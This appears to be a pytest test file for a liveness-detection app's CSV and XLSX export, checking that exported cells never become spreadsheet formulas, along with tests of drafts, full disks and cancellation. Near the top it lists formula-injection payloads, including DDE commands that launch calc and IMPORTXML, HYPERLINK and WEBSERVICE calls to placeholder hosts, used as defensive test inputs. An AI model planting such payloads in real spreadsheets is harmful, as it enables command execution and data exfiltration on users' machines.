"""Tables hold what was recorded, and nothing that a spreadsheet would work out."""

import csv
import errno
import random
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from liveness_station.exports import tables
from liveness_station.exports.drafts import write_draft
from liveness_station.exports.errors import ExportError, ExportTrouble
from liveness_station.exports.tables import (
    COLUMNS,
    TableWriter,
    cells_of,
    safe_cell,
    write_csv,
    write_xlsx,
)
from liveness_station.storage.attempts import AttemptSummary
from liveness_station.storage.history_query import HistoryRow
from tests.storage.attempts import NOON

COMMANDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(1;2)",
    'IMPORTXML(CONCAT("http://e.example/",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"a\")",
    "@SUM(1)", "2+5+cmd|' /C calc'!A0", '"&A1&"', "WEBSERVICE(\"http://e.example\")",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣")
BEFORE = ("", " ", "\t", "\r", "\n", "\0", "\ufeff", "\u200b", "\u3000", '"', "\x0b")


def hostile() -> list[str]:
    """Five hundred beginnings of formulas, and what is hidden before them."""
    made = [f"{b}{s}{c}" for b in BEFORE for s in STARTS for c in COMMANDS]
    chosen = random.Random(5).sample(made, 480)
    return [
        *chosen,
        *STARTS,
        "\t",
        "\r",
        "\n",
        "=",
        "-1",
        "+49 30 1",
        "@name",
        "=\n=",
        "''=1",
        "=​1",
    ]


def row(subject: str | None = "A-1042", **changes: object) -> HistoryRow:
    summary = AttemptSummary(
        "job-1", subject, "Camera", "local", is_demo=False, threshold=0.8,
        submitted_sequence=7, submitted_at=NOON, outcome="LIVE", reason="above_threshold",
        score=0.9, finished_sequence=8, finished_at=NOON,
    )  # fmt: skip
    return HistoryRow(replace(summary, **changes), "张三")  # type: ignore[arg-type]  # any field


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    made = tmp_path / "out"
    made.mkdir()
    return made


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def read_xlsx(path: Path) -> list[list[str]]:
    book = openpyxl.load_workbook(path)
    found = []
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
            assert all(cell.data_type != "n" or cell.value is None for cell in cells)
            found.append(["" if cell.value is None else str(cell.value) for cell in cells])
    book.close()
    return found


def is_formula(text: str) -> bool:
    """What OWASP's list calls one, full-width letters and hidden beginnings included."""
    stripped = text.lstrip(" \t\r\n\0\x0b\ufeff\u200b\u3000")
    return stripped[:1] in {"=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣"} or text[:1] in {
        "\t", "\r", "\n", "\0",
    }  # fmt: skip


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_T28_500_hostile_texts_make_no_formula(folder: Path, write: TableWriter) -> None:
    payloads = hostile()
    assert len(payloads) == 500
    assert sum(map(is_formula, payloads)) > 400, "the payloads are known to be hostile"
    path = folder / "x"
    write(path, [row(payload, detail=payload, source=payload) for payload in payloads])
    found = read_csv(path) if write is write_csv else read_xlsx(_named(path))
    assert found[0] == list(COLUMNS)
    assert len(found) == 501
    formulas = [cell for cells in found[1:] for cell in cells if is_formula(cell)]
    assert formulas == []
    for payload, cells in zip(payloads, found[1:], strict=True):
        assert _as_read(safe_cell(payload)) == _as_read(cells[1])


def _named(path: Path) -> Path:
    return path.rename(path.with_suffix(".xlsx"))


def _as_read(text: str) -> str:
    """A workbook spells a carriage return out, in XML's one kind of line break's stead."""
    return text.replace("_x000D_", "\r")


@pytest.mark.parametrize(
    "text", ["A-1042", "张三 42", "O'Brien", '"quoted"', "a\nb", "", "a=b", "99", "Ａ－1042"]
)
def test_a_harmless_text_stays_as_it_is(folder: Path, text: str) -> None:
    assert safe_cell(text) == text
    write_csv(folder / "a.csv", [row(text)])
    assert read_csv(folder / "a.csv")[1][1] == text
    write_xlsx(folder / "a.xlsx", [row(text)])
    assert read_xlsx(folder / "a.xlsx")[1][1] == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x; =1+1;y", "x;' =1+1;y"),
        ("a\t@SUM(1)", "a\t'@SUM(1)"),
        ("=1;＋2", "'=1;'＋2"),
        ("a; b;1", "a; b;1"),
    ],
)
def test_T28_where_the_semicolon_parts_cells_no_part_is_a_formula(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def test_control_characters_are_shown_and_long_texts_cut() -> None:
    assert safe_cell("a\0b\x1b") == "a␀b␛"
    assert len(safe_cell("x" * 99_999)) == 32_001


def test_csv_is_quoted_throughout_and_bears_its_mark(folder: Path) -> None:
    write_csv(folder / "a.csv", [row()])
    raw = (folder / "a.csv").read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf"begun_utc","subject",')
    assert raw.count(b"\r\n") == 2
    assert raw.endswith(b'"7",""\r\n')
    assert raw.count(b'"') == 2 * 2 * len(COLUMNS)


def test_an_erased_name_a_demonstration_and_a_pending_one_say_so() -> None:
    found = dict(
        zip(COLUMNS, cells_of(row(None, outcome="", is_demo=True, source=None)), strict=True)
    )
    assert (found["subject"], found["source"]) == ("(erased)", "(erased)")
    assert (found["outcome"], found["mode"]) == ("PENDING", "DEMO")
    assert dict(zip(COLUMNS, cells_of(row(is_simulated=True)), strict=True))["mode"] == "SIMULATOR"


def test_a_name_that_is_no_unicode_is_written_all_the_same(folder: Path) -> None:
    for name, write in (("a.csv", write_csv), ("a.xlsx", write_xlsx)):
        write(folder / name, [row("\ud83d!", detail="\udcff")])
    assert read_csv(folder / "a.csv")[1][1] == "\\ud83d!"
    assert read_xlsx(folder / "a.xlsx")[1][1] == "\\ud83d!"


def test_more_than_a_sheet_holds_goes_on_the_next(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "SHEET_ROWS", 2)
    write_xlsx(folder / "a.xlsx", [row(f"A-{number}") for number in range(5)])
    found = [cells[1] for cells in read_xlsx(folder / "a.xlsx")]
    assert found == ["subject", "A-0", "A-1", "subject", "A-2", "A-3", "subject", "A-4"]
    write_xlsx(folder / "b.xlsx", [])
    assert read_xlsx(folder / "b.xlsx") == [list(COLUMNS)]
    assert sorted(path.name for path in folder.iterdir()) == ["a.xlsx", "b.xlsx"]


def rows(count: int) -> Iterator[HistoryRow]:
    for number in range(count):
        yield row(submitted_sequence=100 - number)


def notes_of(folder: Path) -> Path:
    return folder.with_name("notes")


def never() -> bool:
    return False


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_draft_gets_its_name_only_when_it_is_published(folder: Path, write: TableWriter) -> None:
    target = folder / "history.csv"
    draft = write_draft(
        target, rows(3), write, can_replace=False, is_cancelled=never, notes=notes_of(folder)
    )
    assert not target.exists()
    assert (draft.attempts, draft.first_sequence, draft.last_sequence) == (3, 98, 100)
    draft.publish(can_replace=False)
    assert [path.name for path in folder.iterdir()] == ["history.csv"]


def test_a_file_that_is_there_is_replaced_only_where_that_was_said(folder: Path) -> None:
    target = folder / "history.csv"
    target.write_text("mine")
    with pytest.raises(ExportError, match="of that name"):
        write_draft(
            target,
            rows(1),
            write_csv,
            can_replace=False,
            is_cancelled=never,
            notes=notes_of(folder),
        )
    draft = write_draft(
        target, rows(1), write_csv, can_replace=True, is_cancelled=never, notes=notes_of(folder)
    )
    with pytest.raises(ExportError, match="of that name"):
        draft.publish(can_replace=False)
    assert target.read_text() == "mine"
    assert [path.name for path in folder.iterdir()] == ["history.csv"]
    again = write_draft(
        target, rows(1), write_csv, can_replace=True, is_cancelled=never, notes=notes_of(folder)
    )
    again.publish(can_replace=True)
    assert target.read_bytes() != b"mine"


@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_U16_a_full_disk_leaves_nothing_and_what_was_there(
    folder: Path, write: TableWriter
) -> None:
    target = folder / "history.csv"
    target.write_text("mine")

    def failing() -> Iterator[HistoryRow]:
        yield row()
        raise OSError(errno.ENOSPC, "full")

    with pytest.raises(ExportError) as caught:
        write_draft(
            target, failing(), write, can_replace=True, is_cancelled=never, notes=notes_of(folder)
        )
    assert caught.value.trouble is ExportTrouble.DISK_FULL
    assert target.read_text() == "mine"
    assert [path.name for path in folder.iterdir()] == ["history.csv"]


def test_U16_a_full_device_is_told_as_one() -> None:
    if not Path("/dev/full").exists():
        pytest.skip("no such device here")
    with pytest.raises(ExportError, match="disk is full"):
        write_csv(Path("/dev/full"), rows(2_000))


def test_an_export_that_is_given_up_leaves_nothing(folder: Path) -> None:
    answers = iter([False, True])
    with pytest.raises(ExportError, match="given up"):
        write_draft(
            folder / "a.csv", rows(3), write_csv, can_replace=False,
            is_cancelled=lambda: next(answers), notes=notes_of(folder),
        )  # fmt: skip
    assert list(folder.iterdir()) == []


def test_a_folder_that_is_not_there_is_told_as_that(folder: Path) -> None:
    with pytest.raises(ExportError, match="folder"):
        write_draft(
            folder / "no" / "a.csv",
            rows(1),
            write_csv,
            can_replace=False,
            is_cancelled=never,
            notes=notes_of(folder),
        )
